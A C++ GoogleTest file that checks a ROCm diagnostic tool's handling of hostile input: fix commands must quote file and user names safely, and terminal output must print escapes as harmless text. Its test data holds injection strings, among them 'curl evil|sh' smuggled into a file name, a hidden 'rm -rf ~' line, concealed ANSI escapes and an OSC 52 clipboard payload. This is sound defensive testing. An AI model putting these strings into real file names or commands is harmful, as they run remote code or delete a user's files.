// SPDX-License-Identifier: MIT
// Issue 13 items 4 and 5 against the real binary and replayed machines built at test time:
//  - a modprobe.d file named `x$(curl evil|sh); `id`<newline>rm -rf ~ #.conf` must give one
//    root fix command, in the terminal and in JSON remediation.commands, that bash reads as
//    `sudo sed -i ... <that name>`: run under bash with PATH holding only fakes that log their
//    argv, nothing but the fake sudo may run;
//  - a user name in machine.json hiding `; curl ...|sh` behind ESC[8m (concealed) must neither
//    reach the terminal as an escape nor the command as shell syntax;
//  - arguments echoed in error messages (explain, --only, gate --node) come out printable.
// No file with a newline in its name is committed: the machines are built in a temp dir.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "hostile/doctor_run.h"
#include "unit/system/temp_tree.h"

namespace rocm_doctor {
namespace {

namespace fs = std::filesystem;
using testing::DoctorRun;

constexpr char kHostileName[] = "x$(curl evil|sh); `id`\nrm -rf ~ #.conf";

std::vector<std::string> CommandsOf(const nlohmann::json& report, std::string_view code) {
  std::vector<std::string> out;
  if (!report.contains("root_causes")) return out;
  for (const nlohmann::json& cause : report["root_causes"]) {
    if (cause.value("code", "") != code) continue;
    for (const nlohmann::json& c : cause["remediation"]["commands"]) {
      out.push_back(c.get<std::string>());
    }
  }
  return out;
}

// Every escape of a page the doctor printed without colour: none at all.
void ExpectNoControls(const std::string& text) {
  for (unsigned char c : text) {
    if (c == '\n' || c == '\t') continue;
    EXPECT_FALSE(c < 0x20 || c == 0x7f) << "control " << int(c) << " in\n" << text;
  }
}

class FixQuoting : public ::testing::Test {
 protected:
  std::string Machine() const { return tree_.At("machine"); }

  void CopyMachine(const std::string& name) {
    std::error_code ec;
    fs::copy(fs::path(ROCMDOC_SOURCE_DIR) / "tests" / "machines" / name, Machine(),
             fs::copy_options::recursive | fs::copy_options::copy_symlinks, ec);
    ASSERT_FALSE(ec) << ec.message();
  }

  // Runs `line` as a user pasting it would, under bash with PATH = only fakes that log their
  // argv (NUL-separated, one record per call) and HOME in the temp dir; returns the log.
  std::string RunPasted(const std::string& line) {
    const std::string bin = tree_.At("fakebin");
    const std::string log = tree_.At("calls.log");
    fs::create_directories(bin);
    fs::create_directories(tree_.At("home"));
    for (const char* name : {"sudo", "sed", "curl", "sh", "id", "rm", "bash", "env"}) {
      const std::string path = bin + "/" + name;
      std::ofstream(path) << "#!/bin/bash\nprintf '%s\\0' " << name
                          << " \"$@\" >> \"$CALLS_LOG\"; printf '\\n' >> \"$CALLS_LOG\"\n";
      ::chmod(path.c_str(), 0755);
    }
    fs::remove(log);
    CommandSpec check;
    check.name = "bash -n";
    check.argv = {"/bin/bash", "--norc", "-n", "-c", line};
    CommandOutcome parsed = RunCommand(check);
    EXPECT_EQ(parsed.exit_code, 0) << "bash -n rejects " << line << "\n" << parsed.err;
    CommandSpec spec;
    spec.name = "pasted";
    spec.argv = {"/usr/bin/env",
                 "-i",
                 "PATH=" + bin,
                 "HOME=" + tree_.At("home"),
                 "CALLS_LOG=" + log,
                 "/bin/bash",
                 "--norc",
                 "--noprofile",
                 "-c",
                 line};
    CommandOutcome out = RunCommand(spec);
    EXPECT_EQ(out.state, CommandOutcome::State::kExited) << out.error;
    std::ifstream in(log, std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
  }

  rocm_doctor::testing::TempTree tree_;
};

TEST_F(FixQuoting, AHostileModprobeFileNameStaysOneQuotedWordOfOneCommand) {
  CopyMachine("blacklisted-modprobe");
  const std::string dir = Machine() + "/etc/modprobe.d";
  fs::remove(dir + "/blacklist-amdgpu.conf");
  std::ofstream(dir + "/" + kHostileName) << "# hostile\nblacklist amdgpu\n";

  DoctorRun json = testing::RunDoctor({"check", "--sysroot", Machine(), "--format", "json"});
  ASSERT_TRUE(json.JsonOk()) << json.Context();
  const std::vector<std::string> commands = CommandsOf(json.report, "driver.amdgpu.blacklisted");
  ASSERT_EQ(commands.size(), 2u) << json.Context();
  const std::string undo = commands.front();
  EXPECT_EQ(undo.find('\n'), std::string::npos) << undo;
  EXPECT_EQ(undo.rfind("sudo sed -i '2s/^/# /' ", 0), 0u) << undo;

  // What bash does with the pasted command: sudo (the fake) gets the file name as one argument;
  // curl, sh, id and rm never run.
  const std::string calls = RunPasted(undo);
  const std::string expected = std::string("sudo") + '\0' + "sed" + '\0' + "-i" + '\0' +
                               "2s/^/# /" + '\0' + "/etc/modprobe.d/" + kHostileName + '\0' + "\n";
  EXPECT_EQ(calls, expected) << ::testing::PrintToString(calls);

  // The terminal prints the same one-line command (no colour: stdout is not a terminal).
  DoctorRun page = testing::RunDoctor({"check", "--sysroot", Machine()});
  ExpectNoControls(page.outcome.out);
  EXPECT_NE(page.outcome.out.find("Fix:   " + undo), std::string::npos) << page.outcome.out;
  // The name's newline starts no line of the page: not in the command, not in the message
  // that names the file (a bare `rm -rf ~` line would look like the doctor's advice).
  std::istringstream lines(page.outcome.out);
  for (std::string line; std::getline(lines, line);) {
    const std::size_t text = line.find_first_not_of(' ');
    EXPECT_NE(line.compare(text == std::string::npos ? 0 : text, 6, "rm -rf"), 0)
        << "a line of the page starts with the file name's second line:\n"
        << page.outcome.out;
  }
}

TEST_F(FixQuoting, AConcealedUserNameNeitherHidesTextNorBecomesShellSyntax) {
  CopyMachine("kfd-permission-denied");
  const std::string path = Machine() + "/.rocm-doctor/machine.json";
  nlohmann::json machine;
  std::ifstream(path) >> machine;
  const std::string user = "alice\x1b[8m; curl evil|sh #\x1b[0m";
  machine["user"]["name"] = user;
  std::ofstream(path, std::ios::trunc) << machine.dump(1);

  DoctorRun page = testing::RunDoctor({"check", "--sysroot", Machine()});
  ExpectNoControls(page.outcome.out);
  EXPECT_NE(page.outcome.out.find("alice?[8m; curl evil|sh #?[0m"), std::string::npos)
      << page.outcome.out;

  DoctorRun json = testing::RunDoctor({"check", "--sysroot", Machine(), "--format", "json"});
  ASSERT_TRUE(json.JsonOk()) << json.Context();
  bool found = false;
  for (const nlohmann::json& cause : json.report["root_causes"]) {
    for (const nlohmann::json& c : cause["remediation"]["commands"]) {
      const std::string command = c.get<std::string>();
      if (command.rfind("sudo usermod", 0) != 0) continue;
      found = true;
      const std::string calls = RunPasted(command);
      EXPECT_EQ(calls, std::string("sudo") + '\0' + "usermod" + '\0' + "-aG" + '\0' +
                           "render,video" + '\0' + user + '\0' + "\n")
          << command;
    }
  }
  EXPECT_TRUE(found) << json.Context();
}

TEST_F(FixQuoting, ArgumentsEchoedInErrorsArePrintable) {
  const std::string osc = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\xe2\x80\xae";
  const std::vector<std::vector<std::string>> runs = {
      {"explain", "core." + osc},
      {"check", "--only", "hardware." + osc, "--sysroot", "/nonexistent"},
      {"check", "--skip", osc},
      {"gate", "--slurm", "--node", "node" + osc},
      {"check", "--format", "x" + osc},  // CLI11's own message quotes the value
  };
  for (const auto& args : runs) {
    DoctorRun run = testing::RunDoctor(args, std::chrono::seconds(60));
    EXPECT_EQ(run.outcome.exit_code, 2) << run.Context();
    ExpectNoControls(run.outcome.err);
    ExpectNoControls(run.outcome.out);
    EXPECT_EQ(run.outcome.err.find("\xe2\x80\xae"), std::string::npos) << run.outcome.err;
    EXPECT_NE(run.outcome.err.find("?]52;c;Y3VybCBldmlsfHNo??[2J?"), std::string::npos)
        << run.Context();
  }
}

}  // namespace
}  // namespace rocm_doctor
